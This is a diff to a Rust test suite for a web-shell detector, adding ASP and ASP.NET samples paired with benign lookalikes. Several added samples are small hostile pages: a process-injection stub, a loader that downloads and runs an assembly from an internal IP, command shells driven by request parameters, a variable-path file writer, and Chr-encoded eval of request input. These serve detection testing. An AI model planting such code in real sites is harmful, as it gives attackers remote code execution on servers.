@@ -437,6 +437,16 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { link.NavigateUrl = GetRouteUrl(\"product\", new { id = 3 }); }\n</script>\n<asp:HyperLink id=\"link\" runat=\"server\" />\n",
         ),
         case(
+            "EXRAY_NET_Process_Injection",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32.dll\")] static extern IntPtr OpenProcess(uint a, bool b, int pid);\n[DllImport(\"kernel32.dll\")] static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);\n[DllImport(\"kernel32.dll\")] static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int n, out IntPtr w);\n[DllImport(\"kernel32.dll\")] static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { foreach (var p in System.Diagnostics.Process.GetProcesses()) list.Items.Add(p.ProcessName + \" \" + p.WorkingSet64); }\n</script>\n",
+        ),
+        case(
+            "EXRAY_NET_Remote_Assembly_Loader",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n byte[] b = new System.Net.WebClient().DownloadData(\"http://10.0.0.5/a.bin\");\n var asm = AppDomain.CurrentDomain.Load(b);\n asm.EntryPoint.Invoke(null, new object[] { new string[0] });\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n byte[] b = new System.Net.WebClient().DownloadData(feedUrl);\n var t = System.Reflection.Assembly.GetExecutingAssembly().GetName().Version;\n Response.BinaryWrite(b);\n}\n</script>\n",
+        ),
+        case(
             "EXRAY_NET_Shellcode_Runner",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr id);\n</script>\n",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"user32\")] static extern int MessageBeep(uint t);\nvoid Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(); }\n</script>\n",
@@ -1269,5 +1279,112 @@ fn relays_paths_loads_and_logons_are_read_at_their_sinks() {
         !hits(plug).contains("EXRAY_NET_Assembly_Load_Request_Path"),
         "{:?}",
         hits(plug)
+    );
+}
+
+/// A page that reads its form and waits with a loopback `ping` through WScript.Shell (VBScript
+/// has no sleep) runs nothing the caller chose (an application of the tenth look); a page that
+/// runs what the request says is read, by the string rule and, where the flow is plain, the
+/// data-flow rule; a page that waits and also runs a command is read.
+#[test]
+fn wscript_shell_needs_a_command_from_the_caller() {
+    let sleep = "<%\nid = Trim(Request(\"id\"))\nfunction sleep(s)\n Set w = CreateObject(\"WScript.Shell\")\n c = \"%COMSPEC% /c ping -n \" & 1 + s & \" 127.0.0.1>nul\"\n w.Run c, 0, True\nEnd Function\nsleep(8)\nResponse.Write \"<script>self.close();</script>\"\n%>\n";
+    assert!(hits(sleep).is_empty(), "{:?}", hits(sleep));
+    let shell = "<%\nSet w = CreateObject(\"WScript.Shell\")\nc = Request.Form(\"c\")\nSet x = w.Exec(c)\nResponse.Write x.StdOut.ReadAll()\n%>\n";
+    let h = hits(shell);
+    assert!(
+        h.contains("EXRAY_ASP_WScript_Shell_Exec") && h.contains("EXRAY_Request_Process_Flow"),
+        "{h:?}"
+    );
+    let run = "<%\nSet w = CreateObject(\"WScript.Shell\")\nw.Run Request(\"p\"), 0, False\n%>\n";
+    assert!(
+        hits(run).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(run)
+    );
+    let both = "<%\nSet w = CreateObject(\"WScript.Shell\")\nw.Run \"cmd.exe /k ping -n 3 127.0.0.1\", 0, True\nc = UploadRequest.Item(\"c\").Item(\"Value\")\nCall w.Run(c, 0, True)\n%>\n";
+    assert!(
+        hits(both).contains("EXRAY_ASP_WScript_Shell_Exec"),
+        "{:?}",
+        hits(both)
+    );
+}
+
+/// A server-variable loop a developer commented out prints nothing; the same loop as a
+/// statement after `:` or on its own line does.
+#[test]
+fn server_variables_dump_is_a_statement() {
+    let commented = "<%\nSub Check()\n  'Dim name\n  'For Each name In Request.ServerVariables\n  '  Response.Write name & \" = \" & Request.ServerVariables(name) & \"<br>\"\n  'Next\nEnd Sub\n%>\n";
+    assert!(hits(commented).is_empty(), "{:?}", hits(commented));
+    let rem = "<%\nRem For Each n In Request.ServerVariables: Response.Write n: Next\n%>\n";
+    assert!(hits(rem).is_empty(), "{:?}", hits(rem));
+    let live = "<%\nDim n: For Each n In Request.ServerVariables\n Response.Write n & \"=\" & Request.ServerVariables(n) & \"<br>\"\nNext\n%>\n";
+    assert!(
+        hits(live).contains("EXRAY_ASP_ServerVariables_Dump"),
+        "{:?}",
+        hits(live)
+    );
+}
+
+/// A monitoring page that pings its own list of sites and prints its verdict far below is no
+/// command page; one that writes what it read, right there, is. A database helper's
+/// `DataSource.Exec(cmdErrors)` next to request reads starts no process.
+#[test]
+fn command_pages_write_the_output_they_read() {
+    let filler = "<tr><td>status of the site</td></tr>\n".repeat(20);
+    let monitor = format!(
+        "<%\nSet sh = CreateObject(\"WScript.Shell\")\nFor x = 0 To 3\n Set e = sh.Exec(\"ping -n 1 -w 1000 \" & sites(x))\n r = LCase(e.StdOut.ReadAll)\n If InStr(r, \"reply from\") > 0 Then ok(x) = True\nNext\n%>\n{filler}<% For x = 0 To 3: Response.Write sites(x) & \": \" & ok(x): Next %>\n"
+    );
+    assert!(hits(&monitor).is_empty(), "{:?}", hits(&monitor));
+    let shown = "<%\nSet sh = CreateObject(\"WScript.Shell\")\nSet e = sh.Exec(\"ipconfig /all\")\nr = e.StdOut.ReadAll\n%>\n<pre><% Response.Write r %></pre>\n";
+    assert!(
+        hits(shown).contains("EXRAY_ASP_Command_Output_Page"),
+        "{:?}",
+        hits(shown)
+    );
+    let helper = "<%\nSet Recordset = DataSource.Exec(cmdErrors)\nid = Request.QueryString(\"id\")\nCall BuildCmd)\n%>\n";
+    assert!(hits(helper).is_empty(), "{:?}", hits(helper));
+}
+
+/// A demo page that reads the image the query names (`OpenTextFile(p, ForReading)`) and streams
+/// it with `Response.Write` writes no file; the small writer that opens the named file for
+/// appending does.
+#[test]
+fn variable_path_writer_needs_a_file_opened_for_writing() {
+    let reader = "<%\nsrc = Request.QueryString(\"SRC\")\nfirst = Request.QueryString(\"FirstHex\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(src, 1)\nd = f.ReadAll\nResponse.Write(d)\n%>\n";
+    // (reading the path the caller sent is still a file-read finding of its own)
+    let found = hits(reader);
+    assert!(
+        !found.contains("EXRAY_File_Writer_Variable_Path"),
+        "{found:?}"
+    );
+    assert!(found.contains("EXRAY_File_Op_Request_Path"), "{found:?}");
+    let writer = "<%\np = Request.Form(\"p\")\nc = Request.Form(\"c\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(p, 8, True)\nf.Write(c)\nf.Close\n%>\n";
+    assert!(
+        hits(writer).contains("EXRAY_File_Writer_Variable_Path"),
+        "{:?}",
+        hits(writer)
+    );
+}
+
+/// Obfuscated vendor code is not a shell for being obfuscated: a JSON library whose literals are
+/// spelled in character codes evaluates `arr(i)` (`Eval(ChrW(97)&ChrW(114)&ChrW(114)&ChrW(40) & i
+/// & ChrW(41))`), writes Chinese characters as negative codes and has a client-side `eval`; the
+/// same page running a long run of codes, or a name built from them, is read.
+#[test]
+fn character_codes_run_only_as_code() {
+    let json = "<%\nSet c = CreateObject(ChrW(83)&ChrW(99)&ChrW(114)&ChrW(105)&ChrW(112)&ChrW(116)&ChrW(105)&ChrW(110)&ChrW(103))\nt = ChrW(-20319)&ChrW(-2)\nk = ChrW(116)&ChrW(121)&ChrW(112)&ChrW(101) : n = (34*34-1156)\nFunction Item(i)\n Item = toJSON(Eval(ChrW(97)&ChrW(114)&ChrW(114)&ChrW(40) & i & ChrW(41)))\nEnd Function\n%>\n<script>function p(str){ eval(\"var _temp=(\" + str + \");\"); return _temp; }</script>\n";
+    assert!(hits(json).is_empty(), "{:?}", hits(json));
+    let long = "<%\nExecute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(34)&Chr(120)&Chr(34)&Chr(41))\n%>\n";
+    assert!(
+        hits(long).contains("EXRAY_ASP_Chr_Assembled_Execute"),
+        "{:?}",
+        hits(long)
+    );
+    let named = "<%\nc = Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)\nc = c & Chr(101)&Chr(113)\nEval(c)\n%>\n";
+    assert!(
+        hits(named).contains("EXRAY_ASP_Chr_Assembled_Execute"),
+        "{:?}",
+        hits(named)
     );
 }
